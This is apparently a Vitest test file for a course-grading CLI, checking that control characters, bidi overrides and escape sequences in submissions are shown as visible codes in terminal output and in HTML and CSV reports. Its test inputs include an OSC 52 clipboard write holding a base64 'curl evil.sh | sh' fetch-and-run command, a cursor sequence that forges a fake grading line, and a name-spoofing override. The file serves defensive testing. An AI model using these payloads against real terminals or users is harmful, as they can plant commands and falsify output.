// Everything printed or rendered from a submission is shown as text: terminal escape and control sequences in
// learner names, course versions, exercise ids and file names never reach the instructor's terminal raw, and
// bidirectional overrides cannot make one learner's name render as another's in any report. Both sandboxes.
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runBatch } from '../../instructor/cli';
import { csvCell } from '../../instructor/report/csv';
import { displayText } from '../../instructor/report/display';
import { esc } from '../../instructor/report/html';
import { exerciseFiles, submission } from './corpus';

const e01 = exerciseFiles().find((e) => e.id === '01')!;
const root = mkdtempSync(join(tmpdir(), 'instructor-display-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const RLO = '\u202e';
const ESC = '\u001b';
// An OSC 52 clipboard write, a cursor-up + clear-line that would forge a line, and a C1 CSI.
const clipboard = `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`;
const forged = `\r${ESC}[1A${ESC}[2Kgrade: all files graded, 0 rejected\n`;

describe('displayText (the one shared escaping function)', () => {
  it('shows controls, escapes, bidi overrides/isolates and invisible characters as ⟨U+XXXX⟩', () => {
    expect(displayText(`Ann${RLO}eoJ`)).toBe('Ann⟨U+202E⟩eoJ');
    expect(displayText(`${ESC}[31mred`)).toBe('⟨U+001B⟩[31mred');
    expect(displayText('a\u2066b\u2069c\u200bd\ufeff\u009b')).toBe('a⟨U+2066⟩b⟨U+2069⟩c⟨U+200B⟩d⟨U+FEFF⟩⟨U+009B⟩');
    expect(displayText('line\nnext\ttab')).toBe('line⟨U+000A⟩next⟨U+0009⟩tab');
    expect(displayText('line\nnext\ttab', true)).toBe('line\nnext\ttab');
    expect(displayText('Zoë Ünal — 学生 😀')).toBe('Zoë Ünal — 学生 😀');
    expect(esc(`<b>${RLO}</b>`)).toBe('&#60;b&#62;⟨U+202E⟩&#60;/b&#62;');
    expect(csvCell(`=1+1${RLO}`)).toBe(`"'=1+1⟨U+202E⟩"`);
  });
});

describe.each(['isolate', 'quickjs'] as const)('%s sandbox', (kind) => {
  it('prints nothing raw to the terminal and shows spoofing characters in every report', async () => {
    const d = join(root, kind);
    const inDir = join(d, `class${ESC}[2J`);
    mkdirSync(inDir, { recursive: true });
    const spoof = `Ann${RLO}eoJ`;
    writeFileSync(join(inDir, 'spoof.json'), JSON.stringify(submission(spoof, { '01': { code: e01.solution, c: e01.correctC } })));
    writeFileSync(join(inDir, 'term.json'), JSON.stringify(submission(`Tom${clipboard}${forged}`, { '01': { code: e01.solution, c: e01.correctC } }, '2026-11-20T10:00:00.000Z', `9.9${ESC}]52;c;eA==\u0007`)));
    writeFileSync(join(inDir, 'badid.json'), JSON.stringify(submission('Bo', { '01': { code: e01.solution }, [`99${ESC}[8m`]: { code: '' } })));
    writeFileSync(join(inDir, `file${ESC}]0;pwned\u0007${forged.replace(/\n/g, '')}.json`), '{not json');
    const out = join(d, 'out');
    const printed: string[] = [];
    const code = await runBatch([inDir, '--out', out, '--sandbox', kind, '--jobs', '1', '--timeout', '500'], { stdout: (s) => printed.push(s), stderr: (s) => printed.push(s) });
    expect(code).toBe(1);
    const all = printed.join('');
    if (process.env.SHOW) console.log(all);
    // The only line breaks are ours: one per message.
    for (const chunk of printed) expect(chunk.indexOf('\n')).toBe(chunk.length - 1);
    expect(all).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(all).toContain('⟨U+001B⟩]0;pwned⟨U+0007⟩⟨U+000D⟩');
    expect(all).toMatch(/course version 9\.9⟨U\+001B⟩/);
    expect(all).toMatch(/99⟨U\+001B⟩\[8m/);
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    const csv = readFileSync(join(out, 'grades.csv'), 'utf8');
    for (const text of [html, csv]) {
      expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u001b]/);
      expect(text).toContain('Ann⟨U+202E⟩eoJ');
    }
    // report.json keeps the data as submitted (the /instructor/ page shows it through the same function).
    expect(readFileSync(join(out, 'report.json'), 'utf8')).toContain('Ann\\u202eeoJ'.replace('\\u202e', RLO));
    expect(readdirSync(join(out, 'results')).every((f) => /^[a-z0-9-]+\.json$/.test(f))).toBe(true);
  }, 120_000);
});
